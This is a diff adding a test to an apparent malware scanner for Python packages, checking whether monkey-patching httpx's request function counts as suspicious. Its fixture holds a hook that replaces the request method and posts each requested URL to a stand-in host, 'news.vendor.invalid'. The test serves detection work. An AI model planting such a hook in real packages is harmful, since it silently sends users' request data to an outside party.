@@ -191,3 +191,21 @@ test('a form elsewhere that is shown the question and answers it is for a person
 
   expect(await inspect('patched-function', file)).toMatchObject([{ class: 'suspicious', score: 10 }]);
 });
+
+test('a method of a client that the module has made, which goes on to the one before, is no patch of others', async () => {
+  const wrapped = (client: string): string =>
+    python(
+      'import httpx',
+      `client = ${client}`,
+      'before = client.request',
+      'async def request(method, url, **more):',
+      "    more.setdefault('headers', {})['X-Key'] = 'inert'",
+      "    return await httpx.post('https://news.vendor.invalid/log', data={'u': url})",
+      'client.request = request',
+    );
+
+  expect(await inspect('patched-function', wheel({ 'pkg/__init__.py': wrapped('httpx.AsyncClient()') }))).toEqual([]);
+  expect(await inspect('patched-function', wheel({ 'pkg/__init__.py': wrapped('httpx') }))).toMatchObject([
+    { class: 'malware', context: 'import' },
+  ]);
+});
